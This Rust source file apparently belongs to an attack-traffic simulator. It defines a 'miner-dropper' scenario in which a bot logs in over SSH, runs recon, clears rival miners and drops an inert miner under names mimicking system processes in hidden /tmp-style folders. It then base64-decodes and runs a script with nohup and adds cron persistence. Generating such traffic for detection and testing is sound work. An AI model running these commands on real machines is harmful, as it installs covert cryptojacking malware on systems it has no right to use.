//! A bot that installs a miner: logs in by SSH, asks what the machine is, clears rivals away,
//! uploads, runs and keeps itself there. Its payloads are inert ([`crate::payload`]).

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD;

use super::{Scenario, Script, token};
use crate::draw::Draw;
use crate::lists::{self, PERSISTENCE, RECON, RIVALS};
use crate::payload::Payload;
use crate::plan::{Act, SshClient, SshVisit, SshWork};
use crate::world::World;

pub(super) const SCENARIO: Scenario = Scenario {
    name: "miner-dropper",
    summary: "a bot that logs in over SSH, uploads a miner (inert), runs it and stays by cron",
    write,
};

/// Folders that anybody may write to, and names of what seems to belong there.
const FOLDERS: &[&str] = &["/tmp", "/var/tmp", "/dev/shm"];
const NAMES: &[&str] = &["kworker", "kdevtmpfs", "systemd-udevd", "dbused", "sshd-agent"];
/// What miners are told: nobody's pool (RFC 2606), and a wallet that is none.
const CONFIGURATION: &str = r#"{
  "autosave": false,
  "cpu": {"enabled": true, "max-threads-hint": 75},
  "pools": [{"url": "pool.miner.example:3333", "user": "harmless-simulated-wallet", "pass": "x"}]
}"#;

fn write(world: &World, draw: &mut Draw) -> Script {
    let mut script = Script::default();
    let Some(door) = script.door(world, "ssh", draw) else { return script };
    let Some(login) = draw.pick(world.logins(&door)).cloned() else { return script };
    let client = SshClient::Go;
    let visit = |work| {
        Act::Ssh(SshVisit {
            door: door.clone(),
            client,
            username: login.username.clone(),
            passwords: vec![login.password.clone()],
            work,
        })
    };
    let pause = Act::Pause(draw.between(500, 2500));
    script.roles.push(vec![visit(recon(draw)), pause, visit(drop(draw))]);
    script
}

fn recon(draw: &mut Draw) -> Vec<SshWork> {
    let lines = draw.some(&lists::entries(RECON), 5);
    lines.into_iter().map(run).collect()
}

fn drop(draw: &mut Draw) -> Vec<SshWork> {
    let name = draw.word(NAMES);
    let dir = format!("{}/.{}", draw.word(FOLDERS), token(draw, 6));
    let own = |line: &str| run(&line.replace("{dir}", &dir).replace("{file}", name));
    let mut work: Vec<SshWork> = lists::entries(RIVALS).into_iter().map(run).collect();
    work.push(own("mkdir -p {dir} && cd {dir} && rm -rf *"));
    let miner = Payload::elf(name, draw.number());
    let path = format!("{dir}/{name}");
    work.push(match draw.chance(50) {
        true => SshWork::Scp { path, payload: miner },
        false => SshWork::Sftp { path, payload: miner },
    });
    let payload = Payload::text("config.json", CONFIGURATION);
    work.push(SshWork::Scp { path: format!("{dir}/config.json"), payload });
    let script = Payload::script("go.sh", draw.number());
    let text = STANDARD.encode(&script.bytes);
    work.push(run(&format!("echo {text} | base64 -d > {dir}/go.sh && chmod +x {dir}/go.sh")));
    work.push(own("chmod 777 {dir}/{file}; md5sum {dir}/{file}"));
    work.push(own("cd {dir}; nohup ./{file} -c config.json >/dev/null 2>&1 & sh {dir}/go.sh"));
    let ways = lists::entries(PERSISTENCE);
    // The first way, cron, is everybody's.
    let ways = ways.iter().enumerate().filter(|(number, _)| *number == 0 || draw.chance(60));
    work.extend(ways.map(|(_, line)| own(line)));
    work.push(run("crontab -l; ps aux | tail -n 5"));
    work
}

fn run(line: &str) -> SshWork {
    SshWork::Exec(line.to_owned())
}
